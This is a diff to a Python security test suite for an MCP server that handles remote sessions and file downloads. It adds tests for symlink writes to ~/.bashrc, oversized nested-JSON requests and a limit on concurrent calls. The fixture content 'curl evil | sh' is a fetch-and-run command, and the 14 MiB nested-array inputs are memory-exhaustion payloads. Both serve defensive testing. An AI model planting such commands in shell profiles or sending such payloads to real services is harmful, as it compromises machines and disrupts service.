@@ -738,7 +738,8 @@ async def attack_keys_elsewhere():
 
 async def attack_bashrc():
     """Issue 42, item 4: file_get over ~/.bashrc with `local` not served: refused, directly, via
-    a symlinked directory in the root; a symlink in the root is replaced, never written through."""
+    a symlinked directory or file in the root; a symlink within the root is replaced, never
+    written through."""
     home = fake_home()
     before = snapshot(home)
     link_dir, link_file = os.path.join(ROOT, "homelink"), os.path.join(ROOT, "bashrc-link")
@@ -751,9 +752,16 @@ async def attack_bashrc():
         for local in [os.path.join(home, ".bashrc"), os.path.join(link_dir, ".bashrc"), "homelink/.bashrc"]:
             await tool_error(s, "file_get", {"session_id": sid, "local": local, "remote": "payload"}, "permission_denied")
             check(True, f"file_get to {local} is refused")
-        await ok(s, "file_get", {"session_id": sid, "local": link_file, "remote": "payload"})
-        check(not os.path.islink(link_file) and open(link_file).read() == "curl evil | sh\n",
-              "file_get to a symlink in the root replaces the symlink")
+        await tool_error(s, "file_get", {"session_id": sid, "local": link_file, "remote": "payload"}, "permission_denied")
+        check(os.readlink(link_file) == os.path.join(home, ".bashrc"), "a symlink in the root to ~/.bashrc: refused, left as it was")
+        inner, target = os.path.join(ROOT, "inner-link"), os.path.join(ROOT, "inner-target.txt")
+        with open(target, "w") as f:
+            f.write("target\n")
+        if not os.path.lexists(inner):
+            os.symlink("inner-target.txt", inner)
+        await ok(s, "file_get", {"session_id": sid, "local": inner, "remote": "payload"})
+        check(not os.path.islink(inner) and open(inner).read() == "curl evil | sh\n" and open(target).read() == "target\n",
+              "a symlink within the root is replaced by the download, never written through")
         await ok(s, "session_destroy", {"session_id": sid})
     check(snapshot(home) == before, "~/.bashrc is unchanged")
     print("attack passed")
@@ -910,6 +918,87 @@ def raw_stdio():
     print("raw passed")
 
 
+def memory():
+    """Issue 42, item 9: three 14 MiB lines of nested empty arrays in a call's `_meta`, on the
+    raw stdio. Each is refused with a JSON-RPC error naming the bound, before it is parsed; the
+    server's peak memory stays small and it answers the next request."""
+    import select
+
+    errpath = os.path.join(os.path.dirname(STATE), "mcp-memory-stderr.log")
+    with open(errpath, "w") as errlog:
+        # Unbuffered, so that select() on stdout sees every reply not yet read.
+        p = subprocess.Popen([BIN, "--state-dir", STATE, "mcp"], stdin=subprocess.PIPE,
+                             stdout=subprocess.PIPE, stderr=errlog, env=env(), cwd=ROOT, bufsize=0)
+
+    def send(data):
+        p.stdin.write(data + b"\n")
+        p.stdin.flush()
+
+    def recv(timeout=120):
+        ready, _, _ = select.select([p.stdout], [], [], timeout)
+        return json.loads(p.stdout.readline()) if ready else None
+
+    def mem(key):
+        for line in open(f"/proc/{p.pid}/status"):
+            if line.startswith(key + ":"):
+                return int(line.split()[1]) // 1024  # MiB
+        raise AssertionError(key)
+
+    send(json.dumps({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {
+        "protocolVersion": "2025-06-18", "capabilities": {},
+        "clientInfo": {"name": "raw", "version": "0"}}}).encode())
+    check(recv()["id"] == 1, "initialize answered")
+    send(json.dumps({"jsonrpc": "2.0", "method": "notifications/initialized"}).encode())
+    send(json.dumps({"jsonrpc": "2.0", "id": 2, "method": "tools/list"}).encode())
+    check("tools" in recv()["result"], "tools/list answered")
+    before = mem("VmRSS")
+    size = 14 << 20
+    n = size // 3
+    payloads = {
+        10: b"[" + b"[]," * n + b"[]]",                      # wide: millions of empty arrays
+        11: b"[" * (size // 2) + b"]" * (size // 2),       # deep: one nest of millions
+        12: b"[" + b"[[]]," * (size // 5) + b"[]]",        # wide and nested
+    }
+    for i, meta in payloads.items():
+        head = b'{"jsonrpc":"2.0","id":%d,"method":"tools/call","params":{"name":"machine_list","arguments":{},"_meta":{"x":' % i
+        send(head + meta + b"}}}")
+    codes = {}
+    for _ in payloads:
+        r = recv()
+        check(r is not None and "error" in r, f"a 14 MiB request is answered with an error: {str(r)[:300]}")
+        codes[r["id"]] = r["error"]["data"]["code"]
+        check(r["error"]["code"] == -32600 and "bound" in r["error"]["message"], r["error"]["message"])
+    check(codes == {10: "request_too_many_values", 11: "request_too_deep", 12: "request_too_many_values"}, f"each names its bound: {codes}")
+    send(json.dumps({"jsonrpc": "2.0", "id": 3, "method": "tools/list"}).encode())
+    r = recv()
+    check(r is not None and r["id"] == 3 and "tools" in r["result"], "the server keeps serving")
+    peak, after = mem("VmHWM"), mem("VmRSS")
+    print(json.dumps({"rss_before_mib": before, "rss_after_mib": after, "peak_mib": peak}), flush=True)
+    check(peak < before + 160, f"peak memory {peak} MiB stays within 160 MiB of {before} MiB (three 14 MiB lines)")
+    p.stdin.close()
+    p.wait(30)
+    print("memory passed")
+
+
+async def busy():
+    """Issue 42, item 9: tool calls in flight are bounded; past the bound a call is answered
+    `busy` at once (retryable) and the server keeps serving."""
+    async with server() as s:
+        sid = await session(s)
+        _, rec = await exec_(s, sid, "sleep 60", background=True)
+        cid = rec["command_id"]
+        waits = [s.call_tool("command_wait", {"session_id": sid, "command_id": cid, "timeout_s": 6}) for _ in range(24)]
+        results = await asyncio.gather(*waits)
+        busy_ = [r for r in results if r.is_error]
+        check(len(results) - len(busy_) == 16, f"16 calls are served at once ({len(results) - len(busy_)} were)")
+        check(all("[busy]" in text(r) and r.structured_content["error"]["retryable"] for r in busy_),
+              f"the other {len(busy_)} are answered busy, retryable: {text(busy_[0]) if busy_ else ''}")
+        await ok(s, "command_stop", {"session_id": sid, "command_id": cid})
+        await ok(s, "session_destroy", {"session_id": sid})
+        check(True, "and the server serves on")
+    print("busy passed")
+
+
 async def bench(n):
     async with server() as s:
         r = await ok(s, "session_create", {"machine": MACHINE, "cwd": WORK})
@@ -942,6 +1031,10 @@ if __name__ == "__main__":
         asyncio.run(suite())
     elif sys.argv[1] == "guard":
         asyncio.run(local_guard())
+    elif sys.argv[1] == "memory":
+        memory()
+    elif sys.argv[1] == "busy":
+        asyncio.run(busy())
     elif sys.argv[1] == "roots":
         asyncio.run(roots_flag())
     elif sys.argv[1].startswith("attack-"):
